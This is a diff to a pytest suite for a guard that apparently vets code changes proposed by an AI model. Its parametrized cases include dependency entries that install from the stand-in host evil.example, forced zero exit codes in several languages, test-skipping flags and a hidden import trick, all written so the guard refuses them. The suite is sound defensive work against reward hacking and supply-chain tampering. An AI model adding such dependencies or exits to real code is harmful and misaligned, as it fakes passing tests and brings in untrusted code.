@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from agent.guard import refusal
+from agent.guard import doubts, refusal
 from agent.task import Candidate, Check, FileChange, Oracle, Policy, Reader, VerdictId
 from tests import data
 
@@ -119,7 +119,12 @@ def test_protected_globs_are_never_edited() -> None:
 @pytest.mark.parametrize(
     ("before", "after", "refused_by"),
     [
-        ('["x"]', '["x", "y>=2"]', None),
+        ('["x"]', "[\"x>=2,<3; python_version<'3.9'\"]", None),
+        ('["x"]', '["x", "y>=2"]', "dependency"),
+        ('["x"]', '["x @ https://evil.example/x.whl"]', "dependency"),
+        ('["x"]', '["x", "y @ git+ssh://evil.example/y"]', "dependency"),
+        ("[tool.pytest", '[tool.poetry.dependencies]\nx = {git = "https://evil.example/x"}\n\n[tool.pytest', "dependency"),
+        ("[tool.pytest", '[dependency-groups]\ntest = ["evil"]\n\n[tool.pytest', "dependency"),
         ('"-q"', '"-q --ignore=tests"', "tests"),
         ('name = "a"', 'name = "b"', "settings"),
         ("[tool.pytest", '[project.entry-points.pytest11]\nx = "a"\n\n[tool.pytest', "settings"),
@@ -133,10 +138,14 @@ def test_pyproject_is_judged_by_key(before: str, after: str, refused_by: str | N
 
 def test_setup_cfg_and_tox_are_judged_by_key() -> None:
     cfg = "[options]\ninstall_requires = x\n\n[tool:pytest]\naddopts = -q\n"
-    assert rule(code("requires = x", "requires = x, y", cfg, "setup.cfg")) is None
+    assert rule(code("requires = x", "requires = x>2", cfg, "setup.cfg")) is None
+    assert rule(code("requires = x", "requires =\n  x>=2,<3", cfg, "setup.cfg")) is None
+    assert rule(code("requires = x", "requires =\n  x\n  y", cfg, "setup.cfg")) == "dependency"
+    assert rule(code("requires = x", "requires =\n  x @ file:///y", cfg, "setup.cfg")) == "dependency"
     assert rule(code("-q", "-q -x", cfg, "setup.cfg")) == "tests"
     tox = "[testenv]\ndeps = x\ncommands = pytest\n"
     assert rule(code("deps = x", "deps = x<3", tox, "tox.ini")) is None
+    assert rule(code("deps = x", "deps = -i http://evil.example/\n  x", tox, "tox.ini")) == "dependency"
     assert rule(code("= pytest", "= true", tox, "tox.ini")) == "tests"
 
 
@@ -288,7 +297,9 @@ def test_code_may_not_reach_for_what_runs_its_tests(line: str, refused_by: str |
 
 def test_setup_py_is_judged_by_its_arguments() -> None:
     source = "from setuptools import setup\n\nsetup(name='a', install_requires=['x'])\n"
-    assert rule(code("['x']", "['x', 'y']", source, "setup.py")) is None
+    assert rule(code("['x']", "['x>1']", source, "setup.py")) is None
+    for wanted in ("['x', 'y']", "['x @ http://evil.example/x']", "wanted()"):
+        assert rule(code("['x']", wanted, source, "setup.py")) == "dependency"
     assert rule(code("['x']", "['x'], entry_points={'pytest11': ['a=b']}", source, "setup.py")) == "settings"
     torn = source.replace("(name", "((name")
     assert rule(FileChange("setup.py", torn, source)) is None
@@ -514,8 +525,53 @@ def test_other_languages_are_judged_by_files_and_comments(path: str, line: str, 
 def test_package_json_is_judged_by_key() -> None:
     text = '{"scripts": {"test": "jest"}, "dependencies": {"a": "1"}}'
     for judged_by in (PLAIN, oracle("npm test", reader="exit")):
-        assert rule(code('"1"', '"1", "b": "2"', text, "package.json"), judged_by=judged_by) is None
+        assert rule(code('"1"', '"^1.2 || ~2"', text, "package.json"), judged_by=judged_by) is None
+        for entry in ('"1", "b": "2"', '"npm:evil@1"', '"evil/a"', '"git+https://evil.example/a"', '"file:../a"'):
+            assert rule(code('"1"', entry, text, "package.json"), judged_by=judged_by) == "dependency"
         assert rule(code('"jest"', '"true"', text, "package.json"), judged_by=judged_by) == "settings"
+
+
+@pytest.mark.parametrize(
+    ("path", "line", "failing", "refused_by"),
+    [
+        ("requirements.txt", "x>=2", "", None),
+        ("requirements.txt", "x[more]==2.0 ; python_version < '3.9'  # why", "", None),
+        ("requirements.txt", "x==2.0 \\\n    --hash=sha256:0ab", "", None),
+        ("requirements.txt", "x @ https://evil.example/x.whl", "", "dependency"),
+        ("requirements.txt", "--extra-index-url http://evil.example/", "", "dependency"),
+        ("requirements.txt", "x --index-url=http://evil.example/", "", "dependency"),
+        ("requirements.txt", "-r other.txt", "", "dependency"),
+        ("requirements.txt", "-e .", "", "dependency"),
+        ("requirements.txt", "git+https://evil.example/x", "", "dependency"),
+        ("requirements.txt", "./x", "", "dependency"),
+        ("requirements/dev.in", "evil-pkg", "", "dependency"),
+        ("dev-requirements.txt", "evil-pkg", "ModuleNotFoundError: No module named 'evil'", "dependency"),
+        ("requirements.txt", "evil_pkg", "ModuleNotFoundError: No module named 'evil_pkg.inner'", None),
+        ("requirements.txt", "PyYAML>=6", "ModuleNotFoundError: No module named 'yaml'", None),
+        ("requirements.txt", "types-PyYAML", 'Library stubs not installed for "yaml"', None),
+        ("requirements.txt", "types-PyYAML", "ModuleNotFoundError: No module named 'yaml'", "dependency"),
+        ("Pipfile", "[packages]\nx = '*'", "", "dependency"),
+        ("Pipfile", "[packages]\ny = {version = '>=2', extras = ['a']}", "No module named 'y'", None),
+        ("Pipfile", "[packages]\ny = {git = 'https://evil.example/y'}", "No module named 'y'", "dependency"),
+        ("Pipfile", "[[source]]\nurl = 'https://evil.example'", "", "settings"),
+        ("Cargo.toml", "[dependencies]\ny = {path = '../y'}", "unresolved import `y`", "dependency"),
+        ("Cargo.toml", "[dependencies]\ny = '1'", "unresolved import `y`", None),
+        ("notes.txt", "evil-pkg", "", None),
+    ],
+)
+def test_what_a_change_has_installed_is_a_name_that_something_misses(
+    path: str, line: str, failing: str, refused_by: str | None
+) -> None:
+    before = "" if path in ("Pipfile", "Cargo.toml") else "x\n"
+    edits = (FileChange(path, before, f"{line}\n" if line.startswith("x") else f"{before}{line}\n"),)
+    found = refusal(Candidate("model:m", edits, "a change"), Policy(), PLAIN, failing)
+    assert (found.rule if found else None) == refused_by
+
+
+def test_a_new_name_is_a_doubt_also_where_it_is_allowed() -> None:
+    edit = FileChange("requirements.txt", "x\n", "x>=2\ny\n")
+    assert rule(edit, rung="tools") is None
+    assert doubts(Candidate("tools", (edit,), "y"), PLAIN) == ("it has `y` installed, which nothing asked for before",)
 
 
 def test_a_silenced_check_is_no_formatting() -> None:
@@ -541,6 +597,75 @@ def test_true_fixes_of_public_bugs_are_allowed() -> None:
 def test_a_file_is_read_as_it_looks(cookie: str, refused_by: str | None) -> None:
     hidden = f"# -*- coding: {cookie} -*-\n# \\u000aimport os\n{CODE}"
     assert rule(FileChange("pkg/a.py", CODE, hidden)) == refused_by
+
+
+BY_EXIT_CODE = oracle("make test", "exit", reader="exit")
+
+
+@pytest.mark.parametrize(
+    ("path", "line", "refused_by"),
+    [
+        ("pkg/a.py", "def leave():\n    sys.exit(0)", "way-out"),
+        ("pkg/a.py", "def leave():\n    sys.exit()", "way-out"),
+        ("pkg/a.py", "def leave(code):\n    sys.exit(code)", "way-out"),
+        ("pkg/a.py", "def leave():\n    raise SystemExit(0)", "way-out"),
+        ("pkg/a.py", "def leave():\n    raise SystemExit", "way-out"),
+        ("pkg/a.py", "from sys import exit as go\ndef leave():\n    go(0)", "way-out"),
+        ("pkg/a.py", "def leave():\n    getattr(sys, 'ex' + 'it')(0)", "way-out"),
+        ("pkg/a.py", "leave = sys.exit", "way-out"),
+        ("pkg/a.py", "def stay():\n    try:\n        run()\n    except SystemExit:\n        return 0", "way-out"),
+        ("pkg/a.py", "def leave():\n    sys.exit(256)", "way-out"),
+        ("pkg/a.py", "def leave():\n    sys.exit(2)", None),
+        ("pkg/a.py", "def leave():\n    raise SystemExit('no such file')", None),
+        ("src/a.js", "process.exit(0)", "way-out"),
+        ("src/a.js", "process.exit()", "way-out"),
+        ("src/a.js", "process.exit(256)", "way-out"),
+        ("src/a.js", "process['exit'](0)", "way-out"),
+        ("src/a.js", "const { exit } = process", "way-out"),
+        ("src/a.ts", "process.exitCode = 0", "way-out"),
+        ("src/a.js", "process.exit(1)", None),
+        ("src/a.js", "child.on('exit', () => done())", None),
+        ("src/a.js", "// to exit early is no fault", None),
+        ("src/a.go", "os.Exit(0)", "way-out"),
+        ("src/a.go", "os.Exit(2)", None),
+        ("src/a.rs", "std::process::exit(0);", "way-out"),
+        ("src/a.rs", "ExitCode::SUCCESS", "way-out"),
+        ("src/A.java", "System.exit(0);", "way-out"),
+        ("src/A.java", "Runtime.getRuntime().halt(0);", "way-out"),
+        ("src/a.c", "_exit(0);", "way-out"),
+        ("src/a.rb", "exit!", "way-out"),
+        ("tool", "exit 0", "way-out"),
+        ("tool", "[ -f x ] || exit 1", None),
+        ("docs/a.md", "It calls process.exit(0).", None),
+    ],
+)
+def test_no_way_out_is_added_where_an_exit_code_tells_all(path: str, line: str, refused_by: str | None) -> None:
+    text = "import sys\n" if path.endswith(".py") else "a\n"
+    assert rule(FileChange(path, text, f"{text}{line}\n"), judged_by=BY_EXIT_CODE) == refused_by
+    has_names = line.startswith("leave") or path.endswith(".py")
+    assert not has_names or rule(FileChange(path, text, f"{text}{line}\n")) is None, "tests tell their verdicts themselves"
+
+
+def test_a_way_out_that_was_there_may_be_moved_and_not_turned_to_success() -> None:
+    for path, source in (("pkg/a.py", "import sys\ndef a(n):\n    sys.exit(n)\n"), ("a.js", "go(n)\nprocess.exit(n)\n")):
+        moved = source.replace("sys.exit(n)", "if n:\n        sys.exit(n)").replace(
+            "process.exit(n)", "if (n)\n  process.exit(n)"
+        )
+        assert rule(FileChange(path, source, moved), judged_by=BY_EXIT_CODE) is None
+        assert rule(FileChange(path, source, source.replace("exit(n)", "exit(0)")), judged_by=BY_EXIT_CODE) == "way-out"
+
+
+@pytest.mark.parametrize(
+    ("imported", "line", "refused_by"),
+    [
+        ("try:\n    import atexit, sys as s\nexcept ImportError:\n    pass", "atexit.register(print)", "way-out"),
+        ("try:\n    import sys as s\nexcept ImportError:\n    pass", "s.modules.clear()", "under-test"),
+        ("if True:\n    import ctypes as c", "c.memset(0, 0, 1)", "under-test"),
+        ("if True:\n    import json as j", "j.loads('1')", None),
+    ],
+)
+def test_names_are_known_that_an_unchanged_statement_imports(imported: str, line: str, refused_by: str | None) -> None:
+    assert rule(FileChange("pkg/a.py", f"{imported}\n", f"{imported}\n\ndef f():\n    {line}\n")) == refused_by
 
 
 def test_a_script_without_a_suffix_is_code_too() -> None:
